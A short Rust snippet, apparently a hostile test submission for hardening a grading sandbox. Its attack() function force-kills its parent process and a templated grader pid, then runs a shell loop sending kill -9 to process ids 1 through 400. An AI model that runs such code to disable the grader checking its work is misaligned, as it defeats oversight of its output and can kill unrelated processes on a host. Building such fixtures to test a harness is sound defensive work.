// Kill the grader: the parent process, every process it can see, and the
// grader's real pid (learned some other way).
fn attack() {
    let parent = std::os::unix::process::parent_id().to_string();
    let _ = std::process::Command::new("kill").args(["-9", &parent]).status();
    let _ = std::process::Command::new("kill").args(["-9", "@GRADER_PID@"]).status();
    let _ = std::process::Command::new("sh")
        .args(["-c", "for p in $(seq 1 400); do kill -9 $p 2>/dev/null; done"])
        .status();
}
